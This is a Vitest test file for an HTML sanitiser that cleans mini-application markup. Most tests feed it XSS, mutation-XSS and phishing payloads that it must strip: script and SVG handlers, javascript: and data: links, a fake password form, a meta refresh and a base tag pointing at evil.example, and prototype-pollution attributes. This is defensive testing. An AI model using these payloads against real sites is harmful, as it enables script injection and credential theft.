import { describe, expect, it } from 'vitest';
import { markupText, readableMarkup, safeMarkup } from '../../../core/mini-apps/safe-markup.ts';
import type { ParsedNode } from '../../../core/site/documents/document-tree.ts';
import { parsedHtml } from '../../../infrastructure/site/parsed-html.ts';

const made = (html: string): string => markupText(safeMarkup(parsedHtml(html)));
const PIXEL = 'data:image/png;base64,iVBORw0KGgo=';

describe('the markup of an application', () => {
  it('keeps headings, tables, lists, links and details [MKP-1]', () => {
    const html =
      '<section class="now"><h2>Now</h2><table><tbody><tr><th scope="row">A</th><td colspan="2">1</td></tr></tbody></table><details open=""><summary>More</summary><p>x</p></details></section>';
    expect(made(html)).toBe(html);
    expect(made('<h1>A</h1><main><nav>B</nav></main><unknown-tag>C</unknown-tag>')).toBe(
      '<h2>A</h2><div><div>B</div></div>C',
    );
  });

  // SEC-11: what tries to run, to post, to lead away or to stand over the page
  it.each([
    ['a script', '<script>window.__pwn=1</script>'],
    ['a script in a drawing', '<svg><script>window.__pwn=1</script></svg>'],
    ['a drawing that listens', '<svg onload="__pwn=1"></svg>'],
    ['a drawing that uses another', '<svg><use href="data:image/svg+xml;base64,AAAA#x"></use></svg>'],
    [
      'mathematics',
      '<math><mtext><table><mglyph><style><img src=x onerror=__pwn=1></style></mglyph></table></mtext></math>',
    ],
    ['a style sheet', '<style>*{position:fixed}</style>'],
    ['a linked sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['a prefetch', '<link rel="prefetch" href="https://evil.example/?c">'],
    ['another base', '<base href="https://evil.example/">'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ['a frame', '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>'],
    ['an object', '<object data="data:text/html,x"></object><embed src="https://evil.example/">'],
    ['a form', '<form action="https://evil.example/"><input name="password" autofocus></form>'],
    ['a button', '<button formaction="javascript:__pwn=1">Sign in</button>'],
    ['a text field', '<textarea autofocus onfocus="__pwn=1"></textarea><select></select>'],
    ['a template', '<template shadowrootmode="open"><script>1</script></template>'],
    ['what is read without scripts', '<noscript><p title="</noscript><img src=x onerror=__pwn=1>"></noscript>'],
    ['a video', '<video src="https://evil.example/" onerror="__pwn=1"></video><audio src=x></audio>'],
    ['a dialog', '<dialog open>Your session has ended</dialog>'],
    ['a picture from elsewhere', '<img src="https://evil.example/p.gif">'],
    ['a picture of a drawing', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
    ['a picture that fails', '<img src="x" onerror="__pwn=1">'],
    ['a comment', '<!-- <p> -->'],
  ])('leaves nothing of %s [MKP-1]', (_name, html) => {
    expect(made(html)).toBe('');
  });

  it.each([
    ['listeners', '<p onclick="x" onmouseover="x" onanimationstart="x">A</p>'],
    ['names and ids that hide those of the page', '<p id="config" name="cookie">A</p>'],
    ['styles', '<p style="position:fixed;inset:0">A</p>'],
    ['what takes the focus', '<p tabindex="1" autofocus accesskey="x" contenteditable>A</p>'],
    ['slots and parts', '<p slot="x" part="y" is="z" exportparts="w">A</p>'],
    ['popovers', '<p popover="auto" popovertarget="x">A</p>'],
    ['fields of an object', '<p __proto__="x" constructor="y" prototype="z" toString="w">A</p>'],
  ])('leaves out %s [MKP-2]', (_name, html) => {
    expect(made(html)).toBe('<p>A</p>');
    expect(({} as Record<string, unknown>)['x']).toBeUndefined();
  });

  it('does not take what a value inherits for an attribute [MKP-2]', () => {
    const attributes = Object.create({ class: 'inherited' }) as Record<string, string>;
    const node: ParsedNode = { name: 'p', attributes, children: [] };
    expect(safeMarkup([node])).toEqual([{ name: 'p', attributes: {}, children: [] }]);
  });

  it.each([
    'javascript:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'vbscript:x',
    'data:text/html,<script>1</script>',
    'blob:https://x/1',
    '//evil.example/',
    '/\\evil.example',
    'http://evil.example/',
    'https://user@evil.example/',
  ])('has no link to %s [MKP-3]', (address) => {
    const node: ParsedNode = { name: 'a', attributes: { href: address, target: '_top' }, children: ['A'] };
    expect(markupText(safeMarkup([node]))).toBe('<a>A</a>');
  });

  it('opens other sites apart, and its own in the page [MKP-3]', () => {
    expect(made('<a href="/ru/line" target="_top" ping="https://e">A</a>')).toBe('<a href="/ru/line">A</a>');
    expect(made('<a href="https://a.example/">A</a>')).toBe(
      '<a href="https://a.example/" target="_blank" rel="noopener noreferrer nofollow">A</a>',
    );
    expect(made('<a href="/a">A<a href="/b">B</a></a>')).not.toContain('<a href="/a">A<a');
    expect(made(`<img src="${PIXEL}" alt="A" srcset="https://e 2x">`)).toBe(`<img alt="A" src="${PIXEL}">`);
  });

  it('ends at 30 elements inside each other, and at 3000 nodes [MKP-4]', () => {
    const deep = '<div>'.repeat(200);
    expect(made(deep).match(/<div>/g)).toHaveLength(31);
    expect(safeMarkup(parsedHtml('<br>'.repeat(4000)))).toHaveLength(3000);
  });

  it('is read for 12,000 tags and no further, so that what never closes them costs no time [MKP-6]', () => {
    expect(readableMarkup('<p>a</p>b')).toBe('<p>a</p>b');
    expect(readableMarkup('<b><p>'.repeat(100_000))).toBe('<b><p>'.repeat(6000));
    expect(readableMarkup(`${'<p>'.repeat(12_000)}a`)).toHaveLength(36_001);
  });

  it('is written so that it reads as it was made [MKP-5]', () => {
    const nodes: readonly ParsedNode[] = [
      { name: 'p', attributes: { title: '"><img src=x>' }, children: ['<script>1</script> & "'] },
    ];
    expect(markupText(nodes)).toBe(
      '<p title="&quot;&gt;&lt;img src=x&gt;">&lt;script&gt;1&lt;/script&gt; &amp; &quot;</p>',
    );
    const html = '<p title="a&quot;b">x &lt; y</p>';
    expect(made(made(html))).toBe(made(html));
  });
});
